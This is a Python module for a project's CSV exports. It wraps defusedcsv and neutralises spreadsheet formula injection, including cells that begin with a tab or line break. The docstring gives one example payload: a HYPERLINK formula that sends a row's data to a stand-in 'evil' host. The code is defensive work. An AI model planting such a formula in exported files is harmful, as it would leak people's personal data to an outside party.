"""The one CSV writer for every file we produce (exports, registers, downloads).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@`` (and a few
more) as a formula: a prospect named ``=HYPERLINK("http://evil/?"&A1,"x")`` would
send the rest of the row to a stranger when the DPO opens the file. defusedcsv
prefixes such a cell with ``'`` (shown as text, the value is still readable);
we also catch a leading tab, carriage return or line feed, which some
spreadsheets strip before they look for a formula. Numbers stay numbers.

Use it as the standard module: ``from core import csv``;
``csv.writer(...)``, ``csv.DictWriter(...)``. Reading goes through the standard
``csv`` module (imports/), which this does not touch.
"""

from defusedcsv import csv as _defused

_STRIPPED_FIRST = ("\t", "\r", "\n")


def _neutralise(value):
    if isinstance(value, str) and value.startswith(_STRIPPED_FIRST):
        return "'" + value
    return value


class _Writer:
    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row):
        return self._inner.writerow([_neutralise(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(file, dialect="excel", **options) -> _Writer:
    return _Writer(_defused.writer(file, dialect, **options))


class DictWriter(_defused.DictWriter):
    def __init__(self, file, fieldnames, *args, **options):
        super().__init__(file, fieldnames, *args, **options)
        self.writer = _Writer(self.writer)
